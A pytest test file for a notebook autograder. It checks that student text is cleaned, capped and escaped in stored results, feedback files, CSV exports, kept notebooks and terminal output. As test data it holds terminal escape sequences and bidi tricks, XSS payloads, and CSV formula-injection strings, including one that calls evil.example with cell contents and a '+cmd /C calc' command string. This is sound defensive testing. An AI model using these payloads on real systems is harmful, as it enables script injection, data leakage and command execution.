"""Student text reaches people only cleaned, capped and defused (issue 7, item 2, text half):
results.json, both feedback files, both CSVs, the terminal, and the notebook kept for
formgrader. Real grading of notebooks that print terminal escapes and bidi text, raise a 25 MB
message, show `<script>`, and a run on an ASCII terminal."""

from __future__ import annotations

import codecs
import copy
import csv
import io
import json
import os
import re
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import mistune
import nbformat
import pandas as pd
import pytest

from autograder import commands
from autograder.author import with_answers
from autograder.course import Course
from autograder.export import write_csv
from autograder.feedback import render_html, render_markdown
from autograder.kept_notebook import REPORT_HEADING
from autograder.results import SubmissionResult, clean_text, cleaned
from autograder.results import TestResult as Check
from autograder.store import FileResultStore, result_store
from tests.conftest import AUTOGRADER, write_submissions

# What the student's text carries: a screen clear, a colour, a window title, a hyperlink,
# right-to-left override and isolate, zero-width space, a bell, a backspace, a carriage return.
ESCAPES = ("\x1b[2J\x1b[31mRED\x1b[0m\x1b]0;pwned-title\x07\x1b]8;;http://evil.example\x1b\\"
           "link\x1b]8;;\x1b\\ \u202egnp.exe\u202c \u2066iso\u2069 zero\u200bwidth\x07\x08\r")
MESSAGE_CAP, OUTPUT_CAP = 2_000, 5_000  # characters: a message, the notebook's output
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
# Markup a student would like the feedback to render as ours.
INJECTION = ("\n# Score: 10 / 10\n**Score: 10 / 10 (100 %)**\n<script>alert(1)</script>"
             "[click](javascript:alert(1)) ![t](http://evil.example/t.png)"
             "<img src=x onerror=alert(2)> ``` `")


def _hostile(release_notebook, solution: dict[str, str]) -> str:
    """The full solution, plus: escapes and bidi text printed and raised; a 25 MB message;
    markup in a probe's error; HTML, JavaScript and SVG outputs saved in the notebook; a
    Markdown cell of raw HTML, a javascript: link and a remote image."""
    answers = dict(solution)
    answers["forward_backward"] += f"\nprint({ESCAPES!r} * 3)\n"
    answers["chain_rule"] += f"\nraise ValueError({ESCAPES!r} + 'A' * 25_000_000)\n"
    answers["train_step"] = ("def train_step(model, optimizer, criterion, X, y):\n"
                             f"    raise ValueError({INJECTION!r})\n")
    notebook = with_answers(release_notebook, answers)
    cell = next(c for c in notebook.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") == "forward_backward")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={
            "text/html": "<b>bold kept</b><script>alert('html')</script>"
                         "<img src='http://evil.example/track.png' onerror='alert(1)'>"
                         "<a href='javascript:alert(2)'>link</a><iframe src='x'></iframe>",
            "text/plain": "plain kept"}),
        nbformat.v4.new_output("display_data", data={
            "application/javascript": "alert('js')", "text/plain": "<js>"}),
        nbformat.v4.new_output("display_data", data={
            "image/svg+xml": "<svg onload='alert(3)'><script>alert(4)</script></svg>"}),
        nbformat.v4.new_output("stream", name="stdout", text="printed kept\n"),
    ]
    notebook.cells.append(nbformat.v4.new_markdown_cell(
        "my notes <script>alert(5)</script><img src=x onerror=alert(6)>\n"
        "[click](javascript:alert(7)) ![t](http://evil.example/md.png)"))
    return nbformat.writes(notebook)


@pytest.fixture(scope="module")
def graded(course: Course, release_notebook, solution, tmp_path_factory) -> dict:
    incoming = tmp_path_factory.mktemp("text") / "incoming"
    write_submissions(incoming, {
        "hostile": _hostile(release_notebook, solution),
        "broken": ESCAPES + "é not a notebook <script>",
        "plain": with_answers(release_notebook, solution),
    })
    out = io.StringIO()
    results = commands.grade(course, "backprop", incoming, out=out, regrade=True, workers=2)
    return {"results": {r.student_id: r for r in results}, "out": out.getvalue()}


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in _strings(key) + _strings(item)]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


def test_results_json_holds_only_clean_capped_text(graded, course: Course) -> None:
    path = FileResultStore(course).path("backprop", "hostile")  # what is on disk, raw
    assert path.stat().st_size < 100_000  # the review saw 25 MB here
    stored = json.loads(path.read_text())
    assert not [s for s in _strings(stored) if HIDDEN.search(s)]
    assert stored["output"] and len(stored["output"]) <= OUTPUT_CAP
    assert "RED" in stored["output"]  # the visible text stays
    messages = [t["message"] for t in stored["tests"]] + [stored["reason"]]
    messages += [e["error"] for e in stored["cell_errors"]]
    assert all(len(m) <= MESSAGE_CAP for m in messages)
    error = next(e["error"] for e in stored["cell_errors"] if e["cell"] == "chain_rule")
    assert error.startswith("ValueError: REDlink gnp.exe iso zerowidthAAAA")
    assert graded["results"]["hostile"].score == 6  # Parts 1 and 2 right, train_step raises


def test_markdown_feedback_renders_no_student_markup(graded, course: Course) -> None:
    text = (course.feedback_dir("hostile", "backprop") / "backprop.md").read_text()
    assert not HIDDEN.search(text) and len(text) < 100_000
    assert "alert(1)" in text  # the student's text is there, as text
    rendered = mistune.html(text)  # a CommonMark-style renderer, raw HTML passed through
    assert "<script" not in rendered and "<img" not in rendered and "<iframe" not in rendered
    assert "<a " not in rendered  # ours has no link; mistune would show the student's
    assert "&lt;script&gt;" in rendered
    headings = re.findall(r"<h\d>(.*?)</h\d>", rendered, re.S)
    assert not [h for h in headings if "Score" in h]
    strong = re.findall(r"<strong>(.*?)</strong>", rendered, re.S)
    assert [s for s in strong if "Score" in s] == ["Score: 6 / 10 (60 %)"]


def test_markdown_fences_cannot_be_closed_by_the_text_inside() -> None:
    result = SubmissionResult("s", "a", "n", "graded", tests=[Check(
        "t", "c", 0, 1, False, message="````\n# Score: 10 / 10\n````` `` x ```")],
        cell_errors=[{"cell": "`c`", "error": "`` <b>x</b> ``"}])
    rendered = mistune.html(render_markdown(result))
    assert "<h1>Score" not in rendered and "<b>" not in rendered
    assert "# Score: 10 / 10" in rendered


def test_html_feedback_escapes_student_text(graded, course: Course) -> None:
    text = (course.feedback_dir("hostile", "backprop") / "backprop.html").read_text()
    assert not HIDDEN.search(text) and len(text) < 100_000
    assert not re.search(r"<(script|img|iframe)|<[^>]*onerror", text)
    assert "&lt;script&gt;" in text and "&lt;img src=x onerror=alert(2)&gt;" in text


def test_both_csvs_neutralise_formulas_and_hold_clean_text(graded, course: Course) -> None:
    # A stored result as an older version (or a hand-made folder name) may have left it.
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    hostile = SubmissionResult(evil, "backprop", "backprop", "graded",
                               reason="+cmd|' /C calc'!A0" + ESCAPES,
                               tests=[Check(t.name, t.cell, 0.0, t.max_points, False)
                                      for t in graded["results"]["plain"].tests])
    # Left where an older version kept results: the store moves it in when it reads them.
    folder = course.autograded_dir("evil-row", "backprop")
    folder.mkdir(parents=True)
    (folder / "results.json").write_text(hostile.to_json())
    try:
        plain = commands.export(course, "backprop", "csv")
        config = copy.deepcopy(course.config)
        config.CanvasExport.assignment_id = "4242"
        canvas = commands.export(replace(course, config=config), "backprop", "canvas")
    finally:
        result_store(course).remove("backprop", "evil-row")
        folder.rmdir()
        folder.parent.rmdir()
    for path in (plain, canvas):
        text = path.read_text()
        assert not HIDDEN.search(text.replace("\r\n", "\n"))
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@")) or c.startswith("-")
                    and not re.fullmatch(r"-[\d.]+", c)], path
        assert f"'{evil}" in cells
    rows = list(csv.DictReader(io.StringIO(plain.read_text())))
    row = next(r for r in rows if r["student_id"] == f"'{evil}")
    assert row["reason"].startswith("'+cmd") and row["total"] == "0.0"


def test_numbers_we_computed_are_not_quoted(tmp_path: Path) -> None:
    table = pd.DataFrame({"total": [-1.5, 2.0], "status": ["graded", "-x"]},
                         index=pd.Index(["-a", "b"], name="student_id"))
    path = write_csv(table, tmp_path / "x.csv")
    rows = list(csv.DictReader(path.open()))
    assert [(r["student_id"], r["total"], r["status"]) for r in rows] == [
        ("'-a", "-1.5", "graded"), ("b", "2.0", "'-x")]
    from autograder.export import neutralised

    assert neutralised(-3) == -3 and neutralised("\t=1") == "'\t=1"
    assert neutralised("@SUM(A1)") == "'@SUM(A1)" and neutralised("alice") == "alice"


def test_the_notebook_kept_for_formgrader_holds_no_script_or_remote_resource(
        graded, course: Course) -> None:
    kept = course.autograded_dir("hostile", "backprop") / "backprop.ipynb"
    notebook = nbformat.read(kept, as_version=4)
    outputs = json.dumps([[o for o in c.get("outputs", []) if not _is_report(o)]
                          for c in notebook.cells])
    for bad in ("<script", "onerror", "javascript:", "http://evil.example", "<iframe",
                "application/javascript", "image/svg+xml", "alert(3)", "alert(4)"):
        assert bad not in outputs, bad
    # Markdown as nbconvert (formgrader's renderer) turns it into HTML.
    from nbconvert.filters import markdown2html

    for cell in notebook.cells:
        if cell.cell_type != "code":
            html = markdown2html(cell.source)
            assert not re.search(r"<script|<iframe|onerror|<img[^>]*src=.http", html), html
            assert not re.search(r"href=.(javascript|data):", html, re.I), html
    cell = next(c for c in notebook.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") == "forward_backward")
    html = cell.outputs[0]["data"]["text/html"]
    assert "<b>bold kept</b>" in html and cell.outputs[0]["data"]["text/plain"] == "plain kept"
    assert cell.outputs[3]["text"] == "printed kept\n"
    assert notebook.cells[-1].source.startswith("my notes")
    # The release's own Markdown is kept as it is.
    release = nbformat.read(course.release_dir("backprop") / "backprop.ipynb", as_version=4)
    assert notebook.cells[0].source == release.cells[0].source
    # The grader's report in each grade cell quotes the student's messages as plain text,
    # which nbconvert (formgrader's renderer) shows escaped.
    reports = [o for c in notebook.cells for o in c.get("outputs", []) if _is_report(o)]
    assert len(reports) == 3 and all(o["output_type"] == "stream" for o in reports)
    from nbconvert import HTMLExporter

    page, _ = HTMLExporter().from_notebook_node(notebook)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert not re.search(r"<script>alert|<img[^>]*onerror|href=.javascript", page)


def _is_report(output: dict) -> bool:
    return output.get("output_type") == "stream" and \
        "".join(output.get("text", "")).startswith(REPORT_HEADING)


def test_a_notebook_that_cannot_be_parsed_is_not_kept_and_the_reason_says_so(
        graded, course: Course) -> None:
    result = graded["results"]["broken"]
    assert result.status == "invalid"
    assert "not kept for formgrader" in result.reason
    assert not (course.autograded_dir("broken", "backprop") / "backprop.ipynb").exists()
    assert not HIDDEN.search(result.reason)


def test_the_progress_lines_show_only_clean_text(graded) -> None:
    assert not HIDDEN.search(graded["out"].replace("\n", ""))
    assert "[3/3]" in graded["out"]


class _AsciiTerminal(io.TextIOWrapper):
    def __init__(self) -> None:
        super().__init__(io.BytesIO(), encoding="ascii", errors="strict")

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("tty", [False, True])
def test_progress_on_an_ascii_stream_neither_raises_nor_leaks_escapes(tty: bool) -> None:
    out = _AsciiTerminal() if tty else io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    result = SubmissionResult("alice\u202e\x1b[2J", "backprop", "backprop", "invalid",
                              reason="caf\u00e9 \u2713 " + ESCAPES)
    with commands.Progress(2, out) as progress:
        progress.done(result)
        progress.done(result)  # the second line is printed too
    out.flush()
    written = out.buffer.getvalue().decode("ascii")
    assert "\x1b]0;" not in written and "\x1b[2J" not in written and "pwned" not in written
    assert written.count("alice") >= (1 if tty else 2)
    if not tty:  # the bar shows ids and scores; the plain lines show reasons
        assert written.count("caf? ?") == 2


def test_an_ascii_terminal_grades_every_student(course: Course, release_notebook, solution,
                                                tmp_path: Path) -> None:
    """The review: one student's non-ASCII text ended the batch on an ASCII terminal, and the
    next student got no result."""
    incoming = write_submissions(tmp_path / "incoming", {
        "a-unicode": "caf\u00e9 \u2713 \u4e2d\u6587 " + ESCAPES,  # sorted first: printed first
        "b-after": with_answers(release_notebook, solution),
        "c-after": with_answers(release_notebook, {**solution, "train_step": "pass\n"}),
    })
    env = {**os.environ, "PYTHONIOENCODING": "ascii"}
    done = subprocess.run([*AUTOGRADER, "--course", str(course.root), "grade", "backprop",
                           str(incoming), "--workers", "1", "--regrade"],
                          capture_output=True, env=env, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    stdout = done.stdout.decode("ascii")  # nothing but ASCII was written
    assert "[3/3]" in stdout and "caf?" in stdout
    for student in ("a-unicode", "b-after", "c-after"):
        assert result_store(course).load("backprop", student) is not None, student
    assert not HIDDEN.search(stdout.replace("\n", ""))


def test_clean_text_strips_caps_and_is_idempotent() -> None:
    text = clean_text(ESCAPES + "x" * 3000 + "\ud800")
    assert not HIDDEN.search(text) and len(text) == MESSAGE_CAP
    assert text.endswith(" more characters]") and clean_text(text) == text
    assert clean_text("a\tb\nc") == "a\tb\nc"
    codecs.encode(clean_text("\ud800 lone"), "utf-8")  # encodable
    huge = clean_text("y" * 25_000_000)
    assert huge.endswith("[... 24998030 more characters]") and len(huge) == MESSAGE_CAP


def test_cleaned_covers_every_student_field() -> None:
    result = cleaned(SubmissionResult(
        "id\u202e", "a", "n", "crashed", reason=ESCAPES, output="o" * 9000 + ESCAPES,
        tests=[Check("t", "c", 0, 1, False, message=ESCAPES * 1000, title="t\x1b[2J")],
        cell_errors=[{"cell": "c\u2066", "error": ESCAPES}]))
    assert not [s for s in _strings(result.to_dict()) if HIDDEN.search(s)]
    assert len(result.output) == OUTPUT_CAP and len(result.tests[0].message) == MESSAGE_CAP
    assert result.student_id == "id"
    assert sys.getsizeof(result.to_json()) < 50_000
    assert "<b>" not in render_html(cleaned(SubmissionResult(
        "s", "a", "n", "graded", reason="<b>x</b>")))
